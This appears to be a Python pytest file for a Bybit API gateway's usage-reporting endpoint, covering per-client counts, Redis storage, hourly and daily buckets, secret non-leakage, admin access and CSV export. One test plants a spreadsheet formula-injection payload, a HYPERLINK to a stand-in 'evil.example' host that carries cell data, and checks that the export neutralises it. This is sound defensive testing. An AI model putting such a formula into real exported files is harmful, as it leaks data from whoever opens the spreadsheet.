"""/gateway/usage: the figures of every client are what he did, exactly, and nothing in them or about them is secret."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections import defaultdict
from collections.abc import AsyncIterator, Iterator
from contextlib import AbstractContextManager, asynccontextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from policies.usage import COUNTS, HOUR_US, hour_name
from proxy.app import App
from proxy.clock import system_clock
from proxy.config import load, load_routes
from proxy.reload import adopted
from tests.cached import CLOSED, INFO, LATEST
from tests.fake_bybit import FakeBybit
from tests.gateway_fixture import gateway
from tests.hand_clock import HandClock, until
from tests.hanging_file import HangingFile, hanging_file
from tests.raw_http import RawAnswer, exchange_bytes
from tests.recorder import Seen, answer_ok, recorder
from tests.redis_servers import RedisServer, needs_redis, redis_server
from tests.redis_servers.ports import reserve_port

KEYS = {"alice": "PLANTEDKEYOFALICE01", "nobody": "PLANTEDKEYOFNOBODY1"}
TOKENS = {"desk": "planted-token-of-desk-1", "bot": "planted-token-of-bot-01"}
IDENTITY: dict[str, Any] = {
    "identity__tokens": [
        {"name": "desk", "token": TOKENS["desk"], "tier": "PREMIUM"},
        {"name": "bot", "token": TOKENS["bot"], "tier": "FREE"},
    ],
    "identity__accounts": {"alice": [KEYS["alice"]]},
    "identity__hash_key": "planted-hash-key-0123456",
}
FEW = {
    "name": "few",
    "match": {"path": "/v5/market/tickers"},
    "partition": ["client"],
    "quota": "2/1h",
    "counts": "requests",
    "when_full": "refuse",
    "refuse_with": "http",
}
QUIET: dict[str, Any] = {
    "limits": [FEW],
    "retry__enabled": "false",
    "candles__boundary__enabled": "false",
    "cache__stale_while_revalidate": "0s",
}
TICKERS = "/v5/market/tickers?category=linear&symbol=BTCUSDT"
_TODAY = datetime.now(UTC).date()
WIDE = f"by=total&from={_TODAY - timedelta(300)}&to={_TODAY + timedelta(60)}"


@pytest.fixture(scope="module")
def server() -> Iterator[RedisServer]:
    with redis_server() as running:
        yield running


@pytest.fixture
def redis(server: RedisServer) -> Iterator[RedisServer]:
    """Empty."""
    with server.client() as client:
        client.flushall()
    return server


class Clients:
    """What several clients asked of gateways and were told, counted by themselves: from the bytes of their answers."""

    def __init__(self) -> None:
        self.expected: dict[str, dict[str, int]] = defaultdict(lambda: dict.fromkeys(COUNTS, 0))

    async def ask(self, app: App, client: str, target: str, *, body: bytes = b"", method: str = "") -> RawAnswer:
        """`client` as he is called in a bill."""
        kind, _, name = client.partition(":")
        lines = {"token": f"X-Gateway-Token: {TOKENS.get(name)}", "account": f"X-BAPI-API-KEY: {KEYS.get(name)}"}
        who = f"{lines[kind]}\r\n" if kind in lines else ""
        length = f"Content-Length: {len(body)}\r\n" if body else ""
        verb = method or ("POST" if body else "GET")
        text = f"{verb} {target} HTTP/1.1\r\nHost: x\r\n{who}{length}Connection: close\r\n\r\n"
        answer = await exchange_bytes(app.port, text.encode() + body)
        row = self.expected[client]
        row["requests"] += 1
        row["bytes_in"] += len(body)
        if answer.status == 429:
            row["refusals"] += 1
        elif answer.get("X-Gateway"):
            row["errors"] += 1
        else:
            row["bytes_out"] += len(answer.body)
            hit = (answer.get("Cache-Status") or "").startswith("bybit-gateway; hit")
            row["hits" if hit else "upstream"] += 1
        return answer


async def page(app: App, query: str = WIDE, *lines: str) -> RawAnswer:
    head = "".join(f"{line}\r\n" for line in lines)
    asked = f"GET /gateway/usage?{query} HTTP/1.1\r\nHost: x\r\n{head}Connection: close\r\n\r\n"
    return await exchange_bytes(app.port, asked.encode())


async def rows(app: App, query: str = WIDE) -> dict[str, dict[str, int]]:
    """By client."""
    answer = await page(app, query)
    assert answer.status == 200, answer.body
    return {row["client"]: {name: row[name] for name in COUNTS} for row in json.loads(answer.body)["rows"]}


@asynccontextmanager
async def running(box: FakeBybit, **overrides: Any) -> AsyncIterator[App]:
    async with gateway(box.url, **{**IDENTITY, **QUIET, **overrides}) as app:
        yield app


async def traffic(clients: Clients, app: App) -> None:
    """Hits, misses, refusals, errors, bodies, by four clients."""
    for _ in range(3):
        await clients.ask(app, "token:desk", CLOSED)
        await clients.ask(app, "token:bot", INFO)
    await clients.ask(app, "127.0.0.1", CLOSED)
    for _ in range(4):
        await clients.ask(app, "token:bot", TICKERS)
    await clients.ask(app, "127.0.0.1", TICKERS)
    await clients.ask(app, "account:alice", TICKERS)
    await clients.ask(app, "account:alice", "/v5/order/create", body=b'{"category":"linear"}' * 7)
    await clients.ask(app, "token:desk", "http://elsewhere.example/v5/market/time")
    await clients.ask(app, "127.0.0.1", LATEST)


@needs_redis
async def test_the_figures_are_what_the_clients_did(redis: RedisServer) -> None:
    """Through two gateways that share a Redis; before a flush and after it, and for a gateway that comes later."""
    clients = Clients()
    shared = {"store__url": redis.url, "store__timeout": "1s"}
    async with FakeBybit() as box:
        async with running(box, **shared) as one, running(box, **shared) as other:
            await traffic(clients, one)
            assert await rows(one) == clients.expected
            assert await rows(other) == {}
            await traffic(clients, other)
            for app in (one, other):
                assert app.watch.usage is not None
                await app.watch.usage.flush()
            await clients.ask(other, "token:desk", CLOSED)
            assert await rows(other) == clients.expected
        async with running(box, **shared) as later:
            assert await rows(later) == clients.expected
            answer = await page(later, f"{WIDE}&client=token:bot&tier=FREE")
            arrived = box.stats.requests

    (row,) = json.loads(answer.body)["rows"]
    assert {name: row[name] for name in COUNTS} == clients.expected["token:bot"]
    assert row["refusals"] > 2
    assert clients.expected["account:alice"]["bytes_in"] == 2 * 147
    assert clients.expected["token:desk"]["errors"] == 2
    assert clients.expected["token:desk"]["hits"] >= 4
    assert sum(each["upstream"] for each in clients.expected.values()) == arrived


async def test_attempts_that_failed_are_counted(unused_tcp_port: int) -> None:
    """They were sent, or tried, and the gateway answered in place of the exchange; who could not say who he is, is
    nobody."""
    async with gateway(f"http://127.0.0.1:{unused_tcp_port}", **{**IDENTITY, "retry__attempts": 2}) as app:
        clients = Clients()
        await clients.ask(app, "token:bot", "/v5/market/time")
        bad = b"GET /v5/market/time HTTP/1.1\r\nHost: x\r\nX-Gateway-Token: guessed\r\nConnection: close\r\n\r\n"
        assert (await exchange_bytes(app.port, bad)).status == 401
        found = await rows(app)

    assert found["token:bot"]["requests"] == found["token:bot"]["errors"] == 1
    assert found["token:bot"]["upstream"] == 2
    assert found["unknown"]["errors"] == 1
    assert "guessed" not in str(found)


async def test_a_client_that_hangs_up_is_no_error_of_the_gateways() -> None:
    """The request was sent, and is counted as such."""

    gone = asyncio.Event()

    async def late(request: Seen, writer: asyncio.StreamWriter) -> None:
        await gone.wait()
        await answer_ok(request, writer)

    async with recorder(late) as upstream, gateway(upstream.url, **QUIET) as app:
        _, writer = await asyncio.open_connection("127.0.0.1", app.port)
        writer.write(b"GET /v5/market/time HTTP/1.1\r\nHost: x\r\n\r\n")
        await until(lambda: upstream.seen)
        writer.close()
        assert app.watch.usage is not None
        await until(lambda: app.watch.usage.waiting_rows)
        gone.set()
        found = await rows(app)
    assert found["127.0.0.1"] == {**dict.fromkeys(COUNTS, 0), "requests": 1, "upstream": 1}


@needs_redis
async def test_nothing_of_a_key_is_in_redis_or_on_the_page(redis: RedisServer) -> None:
    """Of API keys there are hashes, and of tokens and accounts the names that the operator gave them."""
    clients = Clients()
    async with FakeBybit() as box, running(box, store__url=redis.url) as app:
        await traffic(clients, app)
        await clients.ask(app, "account:nobody", TICKERS)
        assert app.watch.usage is not None
        await app.watch.usage.flush()
        shown = [(await page(app, f"{WIDE}&format={form}")).body.decode() for form in ("json", "csv")]
        with redis.client() as client:
            usage = [key for key in client.scan_iter("bybit:usage:*") if not key.endswith(":hours")]
            kept = [json.dumps(client.hgetall(key)) for key in usage]

    everything = "\n".join([*usage, *kept, *shown])
    assert "account:alice" in everything
    assert "token:bot" in everything
    planted = [*KEYS.values(), *TOKENS.values(), "planted-hash-key-0123456"]
    assert [secret for secret in planted if secret in everything] == []


async def test_hours_and_days_are_told_apart() -> None:
    """By a clock that is moved on: the hour of a request is the one in which it ended."""
    clock = HandClock()
    async with (
        FakeBybit(clock=clock, sleep=clock.sleep) as box,
        gateway(box.url, clock=clock, sleep=clock.sleep, **QUIET) as app,
    ):
        clients = Clients()
        for seconds in (0, 3_600, 13 * 3_600):
            await clock.leap(seconds)
            await clients.ask(app, "127.0.0.1", "/v5/market/time")
        by_hour = json.loads((await page(app, "")).body)
        by_day = json.loads((await page(app, "by=day")).body)
        over = json.loads((await page(app, "from=2026-09-28T13:00Z&to=2026-09-29T02:00Z")).body)
        some = json.loads((await page(app, "from=2026-09-28T13:00Z&to=2026-09-29T02:34:17Z")).body)

    assert [(row["start"], row["requests"]) for row in by_hour["rows"]] == [
        ("2026-09-28T12:00:00Z", 1),
        ("2026-09-28T13:00:00Z", 1),
        ("2026-09-29T02:00:00Z", 1),
    ]
    assert [(row["start"], row["requests"]) for row in by_day["rows"]] == [
        ("2026-09-28T00:00:00Z", 2),
        ("2026-09-29T00:00:00Z", 1),
    ]
    assert by_hour["since"] == "2026-09-28T12:00:00Z"
    assert by_hour["partial"] == ["2026-09-28T12:00:00Z", "2026-09-29T02:00:00Z"]
    assert (over["complete"], over["partial"], over["note"]) == (True, [], None)
    assert [row["requests"] for row in over["rows"]] == [1]
    assert (some["complete"], some["note"]) == (False, "the last hours of the range can still grow")


@needs_redis
async def test_no_cell_of_the_csv_is_a_formula(redis: RedisServer) -> None:
    """Whoever writes to Redis cannot run anything in the spreadsheet of who reads the bill."""
    name = '=HYPERLINK("http://evil.example/?"&A1,"a,b")'
    async with FakeBybit() as box, running(box, store__url=redis.url) as app:
        await Clients().ask(app, "token:desk", "/v5/market/time")
        assert app.watch.usage is not None
        await app.watch.usage.flush()
        with redis.client() as client:
            (key,) = [key for key in client.scan_iter("bybit:usage:*") if not key.endswith(":hours")]
            client.hset(key, f"requests:=1+1:{name}", 3)
        answer = await page(app, f"{WIDE}&format=csv")

    assert answer.get("Content-Type") == "text/csv; charset=utf-8; header=present"
    assert answer.get("X-Gateway-Complete") == "false"
    header, evil, desk = csv.reader(io.StringIO(answer.body.decode(), newline=""), strict=True)
    assert header == ["start", "client", "tier", *COUNTS]
    assert evil[1:4] == [f"'{name}", "'=1+1", "3"]
    assert desk[1:4] == ["token:desk", "PREMIUM", "1"]
    assert answer.body.count(b"\r\n") == 3


@pytest.mark.parametrize(
    ("query", "told"),
    [
        ("from=yesterday", "from: expected 2026-11-20"),
        ("by=week", "by: expected hour, day or total"),
        ("from=2024-01-01&to=2026-01-01", "to: expected at most 366 days after from"),
    ],
)
async def test_a_bad_parameter_is_told_with_its_remedy(query: str, told: str) -> None:
    async with FakeBybit() as box, running(box) as app:
        answer = await page(app, query)

    assert answer.status == 400
    assert answer.get("X-Gateway") == "bad-parameter"
    assert answer.body.decode().startswith(told)


async def test_an_answer_that_would_be_too_long_says_how_to_ask(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("policies.usage_report.Report.__init__.__defaults__", (2,))
    async with FakeBybit() as box, running(box) as app:
        clients = Clients()
        for client in ("token:desk", "token:bot", "127.0.0.1"):
            await clients.ask(app, client, "/v5/market/time")
        answer = await page(app)
        one = await page(app, f"{WIDE}&client=token:desk")

    assert answer.status == 400
    assert b"by=total" in answer.body
    assert one.status == 200


async def test_who_pays_what_is_seen_with_the_admin_token_only() -> None:
    async with FakeBybit() as box, running(box, admin__token="an-admin-token-0123456") as app:
        assert (await page(app)).status == 401
        assert (await page(app, WIDE, "Authorization: Bearer guessed")).status == 401
        assert (await page(app, WIDE, "Authorization: Bearer an-admin-token-0123456")).status == 200


async def test_it_can_only_be_read_and_need_not_be_there() -> None:
    async with FakeBybit() as box, running(box) as app, running(box, usage__enabled="false") as off:
        post = b"POST /gateway/usage HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        assert (await exchange_bytes(app.port, post)).status == 405
        head = await exchange_bytes(app.port, b"HEAD /gateway/usage HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        assert (head.status, head.body) == (200, b"")
        await Clients().ask(off, "token:desk", "/v5/market/time")
        answer = await page(off)
        assert answer.status == 404
        assert b"usage.enabled: true" in answer.body


@needs_redis
async def test_a_lost_redis_is_said_on_the_page(redis: RedisServer) -> None:
    """What this gateway has not put there is shown all the same, and waits."""
    with redis_server() as mortal:
        async with (
            FakeBybit() as box,
            running(box, store__url=mortal.url, store__on_failure="open", store__accept_bans="true") as app,
        ):
            clients = Clients()
            await clients.ask(app, "token:desk", CLOSED)
            assert app.watch.usage is not None
            await app.watch.usage.flush()
            mortal.kill()
            await clients.ask(app, "token:bot", CLOSED)
            await app.watch.usage.flush()
            answer = await page(app)
            metrics = await exchange_bytes(app.port, b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")

    told = json.loads(answer.body)
    assert {row["client"] for row in told["rows"]} == {"token:bot"}
    assert not told["complete"]
    assert "the store cannot be read" in told["note"]
    assert "gateway_usage_waiting_rows 1.0" in metrics.body.decode()
    assert 'gateway_usage_flushes_total{result="failed"} 0.0' not in metrics.body.decode()


async def test_a_reload_takes_effect_but_for_whether_anything_is_counted() -> None:
    routes = load_routes()
    was = load(None, {}, routes)
    wanted = load(
        None,
        {
            "GATEWAY__USAGE__ENABLED": "false",
            "GATEWAY__USAGE__CLIENTS": "7",
            "GATEWAY__USAGE__RETENTION": "400d",
            "GATEWAY__IDENTITY__ACCOUNTS": '{"bob": ["' + KEYS["nobody"] + '"]}',
        },
        routes,
    )
    config, left = adopted(was, wanted)
    assert left == ("usage.enabled",)
    assert config.usage.enabled
    async with FakeBybit() as box, gateway(box.url, **QUIET) as app:
        app.apply(wanted)
        usage = app.watch.usage
        assert usage is not None
        assert usage.store.keeping == (400 * 24 * HOUR_US, 7)
        clients = Clients()
        await clients.ask(app, "account:nobody", "/v5/market/time")
        assert set(await rows(app)) == {"account:bob"}


async def test_a_gateway_that_stands_alone_goes_on_with_its_figures_after_a_restart(tmp_path: Path) -> None:
    """In files beside its state file; a gateway on a port of the system's choice is a trial, and leaves nothing."""
    reserved = reserve_port()
    where = {"listen__port": str(reserved.number), "store__state_file": str(tmp_path / "state.json")}
    clients = Clients()
    async with FakeBybit() as box:
        async with running(box, store__state_file=str(tmp_path / "state.json")) as trial:
            await Clients().ask(trial, "token:desk", "/v5/market/time")
        assert list(tmp_path.iterdir()) == []
        async with running(box, **where) as app:
            await traffic(clients, app)
        async with running(box, **where) as app:
            await traffic(clients, app)
            assert await rows(app) == clients.expected
    reserved.release()
    kept = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()).decode()
    assert "token:desk" in kept
    assert [secret for secret in (*KEYS.values(), *TOKENS.values()) if secret in kept] == []


# While a report is made


def hour_on_a_hanging_disk(tmp_path: Path) -> AbstractContextManager[HangingFile]:
    """One that a report wants, as lasting() looks for it."""
    directory = tmp_path / "state.usage"
    directory.mkdir(mode=0o700)
    hour = system_clock()() // HOUR_US - 5
    return hanging_file(directory / f"{hour_name(hour)}.json")


@asynccontextmanager
async def lasting(box: FakeBybit, tmp_path: Path) -> AsyncIterator[App]:
    """One that keeps its figures in files."""
    reserved = reserve_port()
    try:
        where = {"listen__port": str(reserved.number), "store__state_file": str(tmp_path / "state.json")}
        async with running(box, **where) as app:
            yield app
    finally:
        reserved.release()


async def test_one_report_is_made_at_a_time(tmp_path: Path) -> None:
    """Whoever asks meanwhile is told when to ask again; a question that makes no sense is told that."""
    with hour_on_a_hanging_disk(tmp_path) as disk:
        async with FakeBybit() as box, lasting(box, tmp_path) as app:
            await Clients().ask(app, "token:desk", CLOSED)
            told = []
            for _ in range(2):
                asking = asyncio.gather(page(app))
                await disk.reading()
                refused, senseless = await page(app), await page(app, "by=week")
                disk.let_go()
                told += await asking

    for answer in told:
        assert answer.status == 200
        assert [row["client"] for row in json.loads(answer.body)["rows"]] == ["token:desk"]
    assert (refused.status, refused.get("X-Gateway"), refused.get("Retry-After")) == (503, "report-running", "1")
    assert refused.body == b"Another report is being made; ask again when it is done.\n"
    assert senseless.status == 400


async def test_a_gateway_that_ends_waits_for_no_report(tmp_path: Path) -> None:
    """Who asked for it is told so, and what was counted is put where it belongs."""
    with hour_on_a_hanging_disk(tmp_path) as disk:
        async with FakeBybit() as box:
            async with lasting(box, tmp_path) as app:
                await Clients().ask(app, "token:desk", CLOSED)
                asking = asyncio.gather(page(app))
                await disk.reading()
            (answer,) = await asking
        kept = [path.read_text() for path in (tmp_path / "state.usage").glob("*.json") if path.is_file()]

    assert (answer.status, answer.get("X-Gateway")) == (503, "draining")
    assert answer.body == b"The gateway is ending.\n"
    (figures,) = kept
    assert json.loads(figures)["rows"][0][:2] == ["token:desk", "PREMIUM"]


async def test_no_report_is_begun_while_the_gateway_drains() -> None:
    async with FakeBybit() as box, running(box) as app:
        app.admin.ready = False
        answer = await page(app)

    assert (answer.status, answer.get("X-Gateway")) == (503, "draining")
